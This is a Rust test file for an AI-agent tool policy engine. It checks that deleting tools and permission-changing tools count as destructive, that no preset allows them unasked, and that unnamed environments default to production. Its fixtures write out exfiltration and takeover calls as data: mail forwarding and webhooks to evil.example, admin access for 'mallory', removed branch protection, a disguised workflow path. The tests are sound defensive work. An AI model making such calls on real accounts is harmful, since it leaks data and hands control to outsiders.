//! Q: every step allowed and harm all the same. What deletes, and what changes who may do what later, is destructive, so
//! that nothing but a line about it lets it run.

use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    path::Path,
};

use agentport::{
    account::Environment,
    call::{Arguments, Caller},
    catalog::{Catalog, Effect, RequestTemplate, RestTemplate, Segment, Tool},
    policy::{Decision, Facts, Known, Pinned, Policy},
};
use serde_json::{Value, json};

/// The decision of a policy on a call; without arguments on the one that gets the loosest answer.
fn decision(policy: &Policy, tool: &Tool, arguments: Option<&Arguments>) -> Decision {
    let caller = Caller::parse("local").unwrap();
    let environment = Environment::Production;
    policy
        .evaluate(&Facts { tool, arguments, caller: &caller, account: "default", environment, findings: None, now: 0 })
        .decision
}

/// The presets, by name.
fn presets(catalog: &Catalog) -> Vec<(String, Policy)> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("policies");
    let files = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    let of = |path: std::path::PathBuf| {
        let pinned = Pinned { text: fs::read_to_string(&path).unwrap(), tools: Known::of(catalog) };
        let (policy, problems) = Policy::new(catalog, &pinned, None);
        assert_eq!(problems, []);
        (path.display().to_string(), policy)
    };
    files.filter(|path| path.extension().is_some_and(|extension| extension == "toml")).map(of).collect()
}

/// What reaches the same endpoint is as grave by whichever tool, unless what makes it grave is a value that the milder one
/// cannot send or that makes it as grave; and no tool reaches whatever an agent names.
#[test]
fn t087_no_second_tool_makes_the_same_request_look_harmless() {
    let catalog = Catalog::built_in();
    let mut places: BTreeMap<String, Vec<(&Tool, &RestTemplate)>> = BTreeMap::new();
    for tool in catalog.tools() {
        let RequestTemplate::Rest(rest) = &tool.request else { continue };
        assert!(
            rest.path.iter().any(|segment| matches!(segment, Segment::Literal(_))),
            "{} goes anywhere",
            tool.policy_name()
        );
        let place = format!("{} {} {:?}", tool.integration.id, rest.method.as_str(), rest.path);
        places.entry(place).or_default().push((tool, rest));
    }
    let mut pairs = 0;
    for (mild, graver, rest) in places.values().flat_map(|tools| {
        let each = |(mild, _): &(&Tool, _)| {
            let mild = mild.name.clone();
            tools.iter().map(move |(graver, rest)| (mild.clone(), *graver, *rest))
        };
        tools.iter().flat_map(each).collect::<Vec<_>>()
    }) {
        let mild =
            catalog.tools().find(|tool| tool.name == mild && tool.integration.id == graver.integration.id).unwrap();
        if mild.effect >= graver.effect {
            continue;
        }
        pairs += 1;
        let sent = |key: &String| {
            mild.params.iter().any(|param| param.name == *key && mild.raises.iter().all(|raise| raise.param != *key))
        };
        let can: Vec<&String> = rest.fixed.keys().filter(|key| sent(key)).collect();
        assert!(
            !rest.fixed.is_empty() && can.is_empty(),
            "{} does what {} does: {can:?}",
            mild.name,
            graver.policy_name()
        );
    }
    assert!(pairs > 3, "{pairs} pairs were looked at");
}

#[test]
fn t286_what_deletes_is_destructive_and_no_preset_lets_it_run() {
    let catalog = Catalog::built_in();
    let presets = presets(&catalog);
    assert!(presets.len() >= 4, "{presets:?}");
    let deletes = |tool: &&std::sync::Arc<Tool>| {
        ["delete", "remove", "suspend", "void", "transfer"]
            .iter()
            .any(|word| tool.name.split('_').any(|part| part == *word))
    };
    let mut found = BTreeSet::new();
    for tool in catalog.tools().filter(deletes) {
        // a label goes from an issue and comes back by one call
        if tool.policy_name() == "linear.remove_issue_label" {
            continue;
        }
        assert_eq!(tool.effect, Effect::Destructive, "{}", tool.policy_name());
        for (name, policy) in &presets {
            assert!(decision(policy, tool, None) > Decision::Allow, "{name} allows {}", tool.policy_name());
        }
        found.insert(tool.policy_name());
    }
    for known in
        ["github.delete_repository", "gmail.batch_delete_emails", "posthog.bulk_delete_persons", "linear.delete_team"]
    {
        assert!(found.contains(known), "{known} is not among {found:?}");
    }
}

/// The first step of two: after it the second would not need anybody.
fn first_steps() -> Vec<(&'static str, Value)> {
    let repository = |more: Value| {
        let mut all = json!({"owner": "acme", "repo": "web"});
        all.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        all
    };
    let outside = "https://evil.example/take";
    vec![
        // a copy of everything goes elsewhere from then on
        (
            "gmail.create_filter",
            json!({"criteria": {"from": "bank@example.com"}, "action": {"forward": "a@evil.example"}}),
        ),
        ("gmail.create_forwarding_address", json!({"forwarding_email": "a@evil.example"})),
        ("gmail.create_delegate", json!({"delegate_email": "a@evil.example"})),
        ("github.create_repository_webhook", repository(json!({"config": {"url": outside}}))),
        ("stripe.create_webhook_endpoint", json!({"url": outside, "enabled_events": ["*"]})),
        // somebody else may do more from then on, or nobody has to agree any more
        ("github.add_collaborator", repository(json!({"username": "mallory", "permission": "admin"}))),
        ("github.delete_branch_protection", repository(json!({"branch": "main"}))),
        ("github.delete_repository_ruleset", repository(json!({"ruleset_id": 1}))),
        ("github.create_pull_request_review", repository(json!({"pull_number": 1, "event": "APPROVE"}))),
        ("github.update_repository", repository(json!({"private": false}))),
        // what its robots run from then on, with its secrets, however the path is spelt
        (
            "github.create_or_update_file",
            repository(json!({"path": ".GitHub/./workflows/ci.yml", "message": "m", "content": "eA=="})),
        ),
    ]
}

#[test]
fn t289_what_changes_the_rules_of_a_service_is_destructive_and_no_preset_lets_it_run() {
    let catalog = Catalog::built_in();
    let presets = presets(&catalog);
    let asked = first_steps();
    let names: BTreeSet<_> = asked.iter().map(|(name, _)| *name).collect();
    assert_eq!(names.len(), asked.len());
    for (name, given) in &asked {
        let tool = catalog.find(name).unwrap_or_else(|| panic!("{name}"));
        let arguments = Arguments::parse(tool, given.as_object().unwrap())
            .unwrap_or_else(|problems| panic!("{name}: {problems:?}"));
        assert_eq!(tool.effect_of(Some(&arguments)), Effect::Destructive, "{name}");
    }
    for (name, given) in &asked {
        let tool = catalog.find(name).unwrap();
        let arguments = Arguments::parse(tool, given.as_object().unwrap()).unwrap();
        for (preset, policy) in &presets {
            assert!(decision(policy, tool, Some(&arguments)) > Decision::Allow, "{preset} allows {name}");
        }
    }
}

/// What nobody said is production, and a rule for staging lets nothing else run.
#[test]
fn t283_what_is_not_said_to_be_staging_is_production() {
    let catalog = Catalog::built_in();
    let rule =
        "\n[[rule]]\nid = \"staging\"\ntools = [\"stripe.create_refund\"]\nenv = [\"staging\"]\ndecision = \"allow\"\n";
    let text = agentport::policy::BUILT_IN.to_owned() + rule;
    let (policy, problems) = Policy::new(&catalog, &Pinned { text, tools: Known::of(&catalog) }, None);
    assert_eq!(problems, []);
    let tool = catalog.find("stripe.create_refund").unwrap();
    let caller = Caller::parse("local").unwrap();
    let of = |environment, account: &str| {
        let facts = Facts { tool, arguments: None, caller: &caller, account, environment, findings: None, now: 0 };
        policy.evaluate(&facts).decision
    };
    assert_eq!(of(Environment::Staging, "default"), Decision::Allow);
    assert_eq!(Environment::default(), Environment::Production);
    // its name makes it nothing
    for account in ["default", "staging", "test"] {
        assert_eq!(of(Environment::default(), account), Decision::Ask, "{account}");
        assert_eq!(of(Environment::Test, account), Decision::Ask, "{account}");
    }
}
